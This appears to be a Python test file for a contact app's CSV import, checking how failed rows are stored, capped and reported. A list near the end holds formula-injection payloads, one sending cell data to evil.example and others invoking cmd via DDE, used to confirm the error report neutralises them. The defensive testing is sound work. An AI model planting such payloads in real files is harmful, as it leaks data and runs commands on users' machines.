"""What an import keeps of its failed rows: each row once with its problems, up to a cap; a report safe to open."""

from __future__ import annotations

from contactgraph.db import Engine
from contactgraph.models import Contact
from contactgraph.models.import_job import ImportFailedRow
from contactgraph.settings import Settings

from .api import Api, Library, Workspace, phone
from .checks import oid
from .csv_api import IMPORT_JOB_ERRORS, csv_bytes, read_csv, run_import
from .ws import serve

HEADER = ["firstname", "lastname", "phone", "status", "source"]
JOB = "query($id: ID!) { importJob(id: $id) { failed skippedDuplicates unreportedRows errorReportUrl } }"


async def _errors(api: Api, token: str, job_id: str, first: int, after: str | None) -> list[tuple[int, str]]:
    data = await api.data(IMPORT_JOB_ERRORS, {"id": job_id, "first": first, "after": after}, token)
    return [(e["row"], e["column"] or "") for e in data["importJob"]["errors"]]


async def _report(api: Api, token: str, job_id: str) -> list[list[str]]:
    response = await api.client.get(
        f"/imports/{job_id}/errors.csv", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 200, response.text
    return read_csv(response.content)


async def test_a_row_is_stored_once_with_all_its_problems(
    api: Api, workspace: Workspace, library: Library
) -> None:
    # given: wide rows (many empty columns), each failing on several cells
    wide = [*HEADER, "email", "type", "optedOut", *(f"spare {n}" for n in range(40))]
    bad = [
        ["Ada", f"Row{n}", "nope", "Lost", "WhatsApp", "not-an-email", "BOSS", *[""] * 41] for n in range(3)
    ]
    good = ["Ada", "Ok", phone(1), "New", "WhatsApp", *[""] * 43]
    # when
    job = await run_import(api, workspace.token, csv_bytes([wide, *bad, good]))
    # then: one document per failed row, holding its cells once and its problems as a list
    assert (job["created"], job["failed"]) == (1, 3)
    stored = await ImportFailedRow.find({"job_id": oid(job["id"])}).sort("end").to_list()
    assert [(r.row, len(r.values), len(r.problems), r.end) for r in stored] == [
        (2, 48, 4, 4),
        (3, 48, 4, 8),
        (4, 48, 4, 12),
    ]
    # the API still lists every problem, paged by how many were read, across rows
    problems = ["phone", "status", "email", "type"]
    assert await _errors(api, workspace.token, job["id"], 50, None) == [
        (row, column) for row in (2, 3, 4) for column in problems
    ]
    assert await _errors(api, workspace.token, job["id"], 3, "2") == [(2, "email"), (2, "type"), (3, "phone")]
    assert await _errors(api, workspace.token, job["id"], 2, "11") == [(4, "type")]
    assert await _errors(api, workspace.token, job["id"], 2, "12") == []
    # and the report has one line per row, its reasons joined
    lines = await _report(api, workspace.token, job["id"])
    assert [line[1] for line in lines[1:]] == ["Row0", "Row1", "Row2"]
    assert lines[1][-1].startswith("phone: ") and "; type: " in lines[1][-1]


async def test_rows_past_the_cap_are_counted_not_stored(
    settings: Settings, engine: Engine, workspace: Workspace, library: Library
) -> None:
    async with serve(
        settings.model_copy(update={"import_max_row_errors": 3, "import_batch_size": 2}), engine
    ) as served:
        api = Api(served.client, "")
        # given: seven bad rows, a duplicate and a good one, over several batches
        bad = [["Ada", f"Bad{n}", "nope", "New", "WhatsApp"] for n in range(7)]
        good = ["Ada", "Good", phone(1), "New", "WhatsApp"]
        data = csv_bytes([HEADER, bad[0], good, *bad[1:], good])
        # when
        done = await run_import(api, workspace.token, data)
        job = (await api.data(JOB, {"id": done["id"]}, workspace.token))["importJob"]
        errors = await _errors(api, workspace.token, done["id"], 50, None)
        lines = await _report(api, workspace.token, done["id"])
    # then: the counts are exact; three rows are kept, and the job and the report say how many more
    assert (done["created"], job["failed"], job["skippedDuplicates"], job["unreportedRows"]) == (1, 7, 1, 5)
    assert errors == [(2, "phone"), (4, "phone"), (5, "phone")]
    assert await ImportFailedRow.find({"job_id": oid(done["id"])}).count() == 3
    assert [line[1] for line in lines[1:4]] == ["Bad0", "Bad1", "Bad2"]
    assert len(lines) == 5 and lines[4][:5] == [""] * 5
    assert lines[4][5].startswith("5 more rows failed or were skipped; this report lists the first 3")


async def test_a_cap_of_zero_keeps_no_row_yet_reports_the_count(
    settings: Settings, engine: Engine, workspace: Workspace, library: Library
) -> None:
    async with serve(settings.model_copy(update={"import_max_row_errors": 0}), engine) as served:
        api = Api(served.client, "")
        done = await run_import(
            api, workspace.token, csv_bytes([HEADER, ["Ada", "Bad", "nope", "New", "WhatsApp"]])
        )
        job = (await api.data(JOB, {"id": done["id"]}, workspace.token))["importJob"]
        lines = await _report(api, workspace.token, done["id"])
    assert (job["failed"], job["unreportedRows"]) == (1, 1) and job["errorReportUrl"]
    assert len(lines) == 2 and lines[1][-1].startswith("1 more rows failed")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|'x'!A0",
    "@SUM(1+1)",
]


async def test_the_error_report_makes_formula_cells_inert_and_imports_back_as_they_were(
    api: Api, workspace: Workspace, library: Library
) -> None:
    # given: rows that fail (an unknown status) carrying text a spreadsheet would run
    header = [*HEADER, "company", "city", "=title"]
    rows = [
        ["Ada", f"Row{n}", phone(n), "Lost", "WhatsApp", formula, "\tTab", "\rReturn"]
        for n, formula in enumerate(FORMULAS)
    ]
    job = await run_import(api, workspace.token, csv_bytes([header, *rows]))
    # when
    lines = await _report(api, workspace.token, job["id"])
    # then: each such cell, header and reason starts with a quote, as the export writes them;
    # numbers (the phones) stay as they were
    assert lines[0] == [*HEADER, "company", "city", "'=title", "reason"]
    for line, row in zip(lines[1:], rows, strict=True):
        assert line[:5] == row[:5]
        assert line[5:8] == ["'" + cell for cell in row[5:8]]
        assert line[8].startswith("status: ")
    # when the status is fixed and the report imported again, the text is read without the quote
    fixed = [[*line[:3], "New", *line[4:6]] for line in lines[1:]]
    again = await run_import(api, workspace.token, csv_bytes([[*HEADER, "company"], *fixed]))
    assert (again["created"], again["failed"]) == (4, 0)
    assert sorted(c.company or "" for c in await Contact.find({}).to_list()) == sorted(FORMULAS)
